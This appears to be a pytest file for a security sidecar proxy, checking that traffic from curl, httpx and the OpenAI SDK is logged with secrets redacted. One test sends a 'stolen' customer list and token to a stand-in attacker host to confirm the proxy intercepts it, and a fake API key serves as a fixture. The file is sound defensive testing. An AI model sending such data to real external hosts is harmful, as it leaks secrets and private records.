"""Plain HTTP through a running sidecar with real clients (curl, httpx, the
OpenAI SDK), checked against the events the local ingest server received."""

from __future__ import annotations

import asyncio
import hashlib
import json
import uuid
from collections.abc import AsyncIterator

import httpx
import openai

from cogumi import __version__
from cogumi.sidecar.core import integrity_hash
from tests.servers import free_port
from tests.sidecar.conftest import SidecarFactory, proxy_url, shipped_text
from tests.sidecar.servers import PROJECT_ID, Ingest, Origin, Served

SECRET = "sk-proj-Q7rT2vX9kL4mN8pB3cF6hJ1wZ5yA0dE2gH4jK6mP8sU0wY"


async def curl(*args: str) -> tuple[int, str, str]:
    proc = await asyncio.create_subprocess_exec(
        "curl", "-sS", "--max-time", "20", *args,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    out, err = await proc.communicate()
    assert proc.returncode is not None
    return proc.returncode, out.decode(), err.decode()


async def test_httpx_get_ships_one_event_in_the_contract_shape(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served], origin: tuple[Origin, Served]
) -> None:
    recorder, _ = ingest
    async with make_sidecar() as sidecar:
        async with httpx.AsyncClient(proxy=proxy_url(sidecar), trust_env=False) as client:
            response = await client.get(f"{origin[1].url}/hello?q=1")
        assert response.json() == {"path": "/hello", "method": "GET"}
        [event] = await recorder.wait_events(1)
    [batch] = recorder.batches
    assert batch["project_id"] == PROJECT_ID
    assert batch["run_id"] is None
    assert batch["sidecar_version"] == __version__
    assert uuid.UUID(batch["batch_id"]).version == 4
    assert event["channel"] == "http"
    assert event["type"] == "request"
    assert event["actor"] == "target"
    assert event["destination"] == {
        "host": "127.0.0.1", "path": "/hello?q=1", "port": origin[1].port,
        "classification": "internal_api", "sensitive_path": None,
    }  # fmt: skip
    http = event["http"]
    assert (http["method"], http["status_code"]) == ("GET", 200)
    assert (http["bytes_out"], http["bytes_in"]) == (0, len(response.content))
    assert http["duration_ms"] > 0
    payload = event["payload_redacted"]
    assert payload["summary"] == f"GET 127.0.0.1:{origin[1].port}/hello?q=1 -> 200"
    assert ["Host", f"127.0.0.1:{origin[1].port}"] in payload["headers_redacted"]["request"]
    assert payload["response_body_redacted_preview"] == response.text
    assert event["integrity_hash"] == integrity_hash(payload)
    assert event["matches"] == []
    assert event["ts"].endswith("Z")


async def test_curl_secret_reaches_upstream_but_is_never_shipped(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served], origin: tuple[Origin, Served]
) -> None:
    recorder, _ = ingest
    body = json.dumps({"note": "debug dump", "key": SECRET})
    async with make_sidecar(sensitive_paths=("/echo",)) as sidecar:
        code, out, err = await curl(
            "-x", proxy_url(sidecar), "-H", f"Authorization: Bearer {SECRET}",
            "-H", "Content-Type: application/json", "--data-binary", body, f"{origin[1].url}/echo",
        )  # fmt: skip
        assert code == 0, err
        [event] = await recorder.wait_events(1)
    assert json.loads(out)["sha256"] == hashlib.sha256(body.encode()).hexdigest()
    assert event["http"]["method"] == "POST"
    assert event["http"]["bytes_out"] == len(body)
    assert event["destination"]["sensitive_path"] == "/echo"
    assert {m["kind"] for m in event["matches"]} >= {"OPENAI_KEY"}
    for match in event["matches"]:
        assert set(match) == {"kind", "hash", "preview", "confidence"}
        assert SECRET not in match["preview"]
    assert hashlib.sha256(SECRET.encode()).hexdigest() in {m["hash"] for m in event["matches"]}
    assert "debug dump" in event["payload_redacted"]["body_redacted_preview"]
    assert "REDACTED" in event["payload_redacted"]["body_redacted_preview"]
    assert SECRET not in shipped_text(recorder)
    assert SECRET[8:30] not in shipped_text(recorder)


async def test_openai_sdk_through_the_sidecar(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served], origin: tuple[Origin, Served]
) -> None:
    recorder, _ = ingest
    async with make_sidecar() as sidecar:

        def ask() -> str:
            with openai.DefaultHttpxClient(proxy=proxy_url(sidecar), trust_env=False) as http:
                sdk = openai.OpenAI(
                    base_url=f"{origin[1].url}/v1", api_key=SECRET, http_client=http
                )
                reply = sdk.chat.completions.create(
                    model="gpt-test", messages=[{"role": "user", "content": "hello there"}]
                )
                return reply.choices[0].message.content or ""

        assert await asyncio.to_thread(ask) == "echo: hello there"
        [event] = await recorder.wait_events(1)
    assert event["destination"]["path"] == "/v1/chat/completions"
    assert event["http"]["method"] == "POST"
    assert event["http"]["status_code"] == 200
    assert "hello there" in event["payload_redacted"]["body_redacted_preview"]
    assert "OPENAI_KEY" in {m["kind"] for m in event["matches"]}
    headers = dict(event["payload_redacted"]["headers_redacted"]["request"])
    assert SECRET not in headers.get("Authorization", headers.get("authorization", ""))
    assert SECRET not in shipped_text(recorder)


async def test_keep_alive_is_reused_on_both_sides(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served], origin: tuple[Origin, Served]
) -> None:
    recorder, _ = ingest
    app, served = origin
    async with make_sidecar() as sidecar:
        limits = httpx.Limits(max_connections=1)
        async with httpx.AsyncClient(proxy=proxy_url(sidecar), limits=limits, trust_env=False) as c:
            for i in range(6):
                assert (await c.get(f"{served.url}/n{i}")).status_code == 200
        events = await recorder.wait_events(6)
        assert sidecar.proxy.connections_accepted == 1
    assert len(set(app.peers)) == 1, "the sidecar should reuse one upstream connection"
    assert [e["destination"]["path"] for e in events] == [f"/n{i}" for i in range(6)]


async def test_chunked_upload_is_streamed_chunked_upstream(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served], origin: tuple[Origin, Served]
) -> None:
    recorder, _ = ingest
    piece = b"0123456789abcdef" * 4096  # 64 KiB

    async def chunks() -> AsyncIterator[bytes]:
        for _ in range(48):  # 3 MiB
            yield piece

    async with make_sidecar() as sidecar:
        async with httpx.AsyncClient(proxy=proxy_url(sidecar), trust_env=False) as client:
            response = await client.post(f"{origin[1].url}/echo", content=chunks())
        [event] = await recorder.wait_events(1)
    expected = hashlib.sha256(piece * 48).hexdigest()
    assert response.json() == {"length": len(piece) * 48, "sha256": expected, "chunked": True}
    assert event["http"]["bytes_out"] == len(piece) * 48
    preview = event["payload_redacted"]["body_redacted_preview"]
    assert preview.startswith("0123456789abcdef")
    assert f"truncated, {len(piece) * 48} bytes in total" in preview
    assert len(preview) < 9000


async def test_10_mib_download_streams_through(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served], origin: tuple[Origin, Served]
) -> None:
    recorder, _ = ingest
    size = 10 * 1024 * 1024
    digest = hashlib.sha256()
    async with make_sidecar() as sidecar:
        async with (
            httpx.AsyncClient(proxy=proxy_url(sidecar), trust_env=False) as client,
            client.stream("GET", f"{origin[1].url}/bytes/{size}") as response,
        ):
            async for data in response.aiter_raw():
                digest.update(data)
        [event] = await recorder.wait_events(1)
    block = bytes(range(256)) * 256
    assert digest.hexdigest() == hashlib.sha256(block * (size // len(block))).hexdigest()
    assert event["http"]["bytes_in"] == size
    assert event["payload_redacted"]["response_body_redacted_preview"].startswith("[binary body")


async def test_refused_upstream_gives_502_and_an_event(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served]
) -> None:
    recorder, _ = ingest
    port = free_port()
    async with make_sidecar() as sidecar:
        code, out, _ = await curl(
            "-x", proxy_url(sidecar), "-d", "x=1", f"http://127.0.0.1:{port}/a"
        )
        [event] = await recorder.wait_events(1)
    assert code == 0
    assert out.startswith("502 Bad Gateway")
    assert event["http"]["status_code"] == 502
    assert event["error"] == event["payload_redacted"]["error"] == "upstream_refused"
    assert "refused" in event["payload_redacted"]["summary"]
    assert event["payload_redacted"]["body_redacted_preview"] == "x=1"


async def test_slow_upstream_gives_504_and_an_event(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served], origin: tuple[Origin, Served]
) -> None:
    recorder, _ = ingest
    async with make_sidecar(upstream_timeout=0.4) as sidecar:
        async with httpx.AsyncClient(proxy=proxy_url(sidecar), trust_env=False) as client:
            response = await client.get(f"{origin[1].url}/slow")
        [event] = await recorder.wait_events(1)
    assert response.status_code == 504
    assert event["http"]["status_code"] == 504
    assert event["error"] == "upstream_timeout"
    assert 350 < event["http"]["duration_ms"] < 3000


async def test_dns_failure_gives_502(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served]
) -> None:
    recorder, _ = ingest
    async with make_sidecar(connect_timeout=8.0) as sidecar:
        async with httpx.AsyncClient(proxy=proxy_url(sidecar), trust_env=False) as client:
            response = await client.get("http://no-such-host.invalid/x")
        [event] = await recorder.wait_events(1)
    assert response.status_code == 502
    assert event["error"] == "dns_failure"
    assert event["destination"]["host"] == "no-such-host.invalid"


async def test_sink_is_answered_locally_with_the_full_redacted_preview(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served]
) -> None:
    recorder, _ = ingest
    stolen = "customer list: " + "alice,bob,carol;" * 900 + f" token={SECRET}"
    async with make_sidecar() as sidecar:
        async with httpx.AsyncClient(proxy=proxy_url(sidecar), trust_env=False) as client:
            response = await client.post("http://attacker-sink.local/collect?d=1", content=stolen)
        [event] = await recorder.wait_events(1)
    assert (response.status_code, response.json()) == (200, {})
    assert event["type"] == "blocked"
    assert event["destination"]["classification"] == "attacker_sink"
    assert event["payload_redacted"]["intercepted"] is True
    assert "never left the network" in event["payload_redacted"]["summary"]
    assert event["http"]["bytes_out"] == len(stolen)
    preview = event["payload_redacted"]["body_redacted_preview"]
    assert preview.startswith("customer list: alice,bob")
    assert "REDACTED" in preview and "truncated" not in preview
    assert "OPENAI_KEY" in {m["kind"] for m in event["matches"]}
    assert SECRET not in shipped_text(recorder)


async def test_origin_form_requests_are_refused_but_healthz_answers(
    make_sidecar: SidecarFactory, ingest: tuple[Ingest, Served]
) -> None:
    async with (
        make_sidecar() as sidecar,
        httpx.AsyncClient(base_url=proxy_url(sidecar), trust_env=False) as client,
    ):
        assert (await client.get("/healthz")).json()["ok"] is True
        assert (await client.get("/anything")).status_code == 400
    assert ingest[0].events == []
